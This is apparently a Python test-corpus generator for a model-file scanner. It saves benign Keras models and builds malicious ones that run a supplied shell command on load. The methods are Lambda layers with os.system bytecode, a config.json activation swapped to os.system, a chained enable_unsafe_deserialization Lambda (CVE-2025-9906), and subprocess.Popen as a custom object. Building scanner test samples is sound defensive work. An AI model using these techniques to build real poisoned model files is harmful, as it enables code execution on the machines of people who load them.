"""Keras models saved by Keras itself, and Keras' own loader as the reference.

Run as a script in a fresh process (``KERAS_BACKEND`` must be set before Keras is
imported, and a hostile load may change Keras' global state):

    python keras_scan_samples.py build OUT CMD       # writes the samples, prints them
    python keras_scan_samples.py load MARKER PATH...  # loads each in a forked child,
                                                      # safe_mode on, then off

``make_scan_corpus.keras_built_samples`` adds the samples to the corpus.

The hostile samples carry ``CMD`` (a shell command) in the places where Keras runs code
on load; the loader reports, per file and mode, whether the load succeeded or the error.
"""

from __future__ import annotations

import json
import os
import shutil
import sys
import zipfile
from pathlib import Path
from typing import Any

os.environ.setdefault("KERAS_BACKEND", "torch")

import keras
from keras.src.saving import saving_lib  # zipped=False: not in the public API


def payload(cmd: str) -> Any:
    """A function whose marshalled bytecode runs ``cmd`` when Keras calls it on load."""
    return eval(f"lambda x: (__import__('os').system({cmd!r}), x)[1]")


def dense_model() -> keras.Model:
    return keras.Sequential(
        [keras.Input((4,)), keras.layers.Dense(3, activation="relu"), keras.layers.Dense(1)]
    )


def benign_functional() -> keras.Model:
    inputs = keras.Input((8, 8, 1))
    x = keras.layers.Conv2D(2, 3, activation="relu")(inputs)
    x = keras.layers.BatchNormalization()(x)
    x = keras.layers.Flatten()(x)
    x = keras.layers.Dropout(0.1)(x)
    outputs = keras.layers.Dense(2, activation="softmax")(x)
    model = keras.Model(inputs, outputs)
    model.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    return model


def benign_sequence_model() -> keras.Model:
    """Layers, schedules, losses and metrics as objects: what a training script saves."""
    inputs = keras.Input((6,), dtype="int32")
    x = keras.layers.Embedding(20, 8)(inputs)
    x = keras.layers.MultiHeadAttention(2, 4)(x, x)
    x = keras.layers.LayerNormalization()(x)
    x = keras.layers.LSTM(4)(x)
    x = keras.layers.Rescaling(0.5)(x)
    outputs = keras.layers.Dense(3, kernel_regularizer=keras.regularizers.L2(1e-4))(x)
    model = keras.Model(inputs, outputs)
    schedule = keras.optimizers.schedules.ExponentialDecay(0.01, 100, 0.9)
    model.compile(
        optimizer=keras.optimizers.AdamW(schedule),
        loss=keras.losses.SparseCategoricalCrossentropy(from_logits=True),
        metrics=[
            keras.metrics.SparseCategoricalAccuracy(),
            keras.metrics.SparseTopKCategoricalAccuracy(2),
        ],
    )
    return model


def lambda_model(cmd: str) -> keras.Model:
    return keras.Sequential(
        [keras.Input((4,)), keras.layers.Dense(3), keras.layers.Lambda(payload(cmd))]
    )


def nested_lambda_model(cmd: str) -> keras.Model:
    """The Lambda inside a Sequential inside a TimeDistributed wrapper of a Functional."""
    inner = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(payload(cmd))])
    inputs = keras.Input((2, 4))
    outputs = keras.layers.TimeDistributed(inner)(inputs)
    return keras.Model(inputs, keras.layers.Dense(1)(outputs))


def rewrite_config(src: Path, dst: Path, edit: Any, drop: tuple[str, ...] = ()) -> None:
    """Copy a ``.keras`` zip with its config.json edited (what an attacker does by hand)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for info in zin.infolist():
            if info.filename in drop:
                continue
            data = zin.read(info.filename)
            if info.filename == "config.json":
                config = json.loads(data)
                edit(config)
                data = json.dumps(config).encode()
            zout.writestr(info.filename, data)


def first_dense(config: dict[str, Any]) -> dict[str, Any]:
    layers: list[dict[str, Any]] = config["config"]["layers"]
    return next(layer for layer in layers if layer["class_name"] == "Dense")


def build(out: Path, cmd: str) -> list[dict[str, str]]:
    out.mkdir(parents=True, exist_ok=True)
    samples: list[dict[str, str]] = []

    def add(sid: str, name: str, expect: str, technique: str, reference: str = "") -> Path:
        samples.append(
            {
                "id": sid,
                "path": name,
                "expect": expect,
                "technique": technique,
                "reference": reference,
            }
        )
        return out / name

    dense_model().save(add("kb01", "dense.keras", "benign", "Keras 3 Sequential, .keras"))
    dense_model().save(add("kb02", "dense.h5", "benign", "Keras 3 Sequential, legacy HDF5"))
    benign_functional().save(
        add("kb03", "functional.keras", "benign", "compiled Functional CNN, .keras")
    )
    benign_functional().save(
        add("kb04", "functional.h5", "benign", "compiled Functional CNN, legacy HDF5")
    )
    benign_sequence_model().save(
        add("kb06", "sequence.keras", "benign", "attention/LSTM, AdamW + schedule, .keras")
    )
    benign_sequence_model().save(
        add("kb07", "sequence.h5", "benign", "attention/LSTM, AdamW + schedule, legacy HDF5")
    )
    folder = add("kb05", "dense_folder", "benign", "Keras 3 model saved unzipped (folder)")
    saving_lib.save_model(dense_model(), str(folder), zipped=False)

    lam = add(
        "kr01", "lambda.keras", "malicious", "Lambda layer with code, .keras", "CVE-2024-3660"
    )
    lambda_model(cmd).save(lam)
    lambda_model(cmd).save(
        add("kr02", "lambda.h5", "malicious", "Lambda layer with code, .h5", "CVE-2025-9905")
    )
    nested_lambda_model(cmd).save(
        add("kr03", "nested_lambda.keras", "malicious", "Lambda in a model in a wrapper")
    )
    rewrite_config(
        lam,
        add("kr04", "no_metadata.keras", "malicious", ".keras Lambda without metadata.json"),
        lambda config: None,
        drop=("metadata.json",),
    )
    lam_folder = add("kr05", "lambda_folder", "malicious", "unzipped Keras folder with Lambda")
    saving_lib.save_model(lambda_model(cmd), str(lam_folder), zipped=False)

    benign = out / "dense.keras"

    def swap_activation(module: str, name: str) -> Any:
        def edit(config: dict[str, Any]) -> None:
            layer = first_dense(config)
            layer["config"]["activation"] = {
                "module": module,
                "class_name": "function",
                "config": name,
                "registered_name": name,
            }

        return edit

    rewrite_config(
        benign,
        add(
            "kr06",
            "activation_os.keras",
            "malicious",
            "config.json: activation os.system",
            "CVE-2025-1550",
        ),
        swap_activation("os", "system"),
    )

    def unsafe_chain(config: dict[str, Any]) -> None:
        """CVE-2025-9906: a Lambda calling ``enable_unsafe_deserialization`` first."""
        unlock = {
            "module": "keras.layers",
            "class_name": "Lambda",
            "config": {
                "name": "unlock",
                "function": {
                    "module": "keras.config",
                    "class_name": "function",
                    "config": "enable_unsafe_deserialization",
                    "registered_name": "enable_unsafe_deserialization",
                },
            },
            "registered_name": None,
        }
        config["config"]["layers"].insert(1, unlock)

    rewrite_config(
        lam,
        add(
            "kr07",
            "unsafe_chain.keras",
            "malicious",
            "config.json: unlock safe_mode, Lambda",
            "CVE-2025-9906",
        ),
        unsafe_chain,
    )

    def module_class(config: dict[str, Any]) -> None:
        layer = first_dense(config)
        layer["module"], layer["class_name"] = "keras.src.saving.saving_lib", "H5IOStore"

    rewrite_config(
        benign,
        add("kr08", "module_class.keras", "malicious", "config.json: a non-layer Keras class"),
        module_class,
    )

    def registered(config: dict[str, Any]) -> None:
        layer = first_dense(config)
        layer["module"], layer["registered_name"] = "subprocess", "subprocess>Popen"
        layer["class_name"] = "Popen"

    rewrite_config(
        benign,
        add("kr09", "custom_object.keras", "malicious", "config.json: custom object subprocess"),
        registered,
    )
    return samples


def load(marker: Path, paths: list[str]) -> dict[str, dict[str, str]]:
    """Load each path in a forked child (safe_mode on, then off): "loaded" or the error,
    and "+ran" when the payload created ``marker``."""
    results: dict[str, dict[str, str]] = {}
    for path in paths:
        results[path] = {}
        for mode in (True, False):
            marker.unlink(missing_ok=True)
            read, write = os.pipe()
            pid = os.fork()
            if pid == 0:  # pragma: no cover - child
                os.close(read)
                try:
                    keras.saving.load_model(path, safe_mode=mode)
                    outcome = "loaded"
                except Exception as exc:
                    outcome = f"{type(exc).__name__}: {str(exc).splitlines()[0][:200]}"
                os.write(write, outcome.encode())
                os._exit(0)
            os.close(write)
            with os.fdopen(read, "rb") as pipe:
                outcome = pipe.read().decode() or "child died"
            os.waitpid(pid, 0)
            ran = " +ran" if marker.exists() else ""
            results[path]["safe" if mode else "unsafe"] = outcome + ran
    return results


if __name__ == "__main__":
    if sys.argv[1] == "build":
        target = Path(sys.argv[2])
        shutil.rmtree(target, ignore_errors=True)
        print(json.dumps(build(target, sys.argv[3])))
    else:
        print(json.dumps(load(Path(sys.argv[2]), sys.argv[3:])))
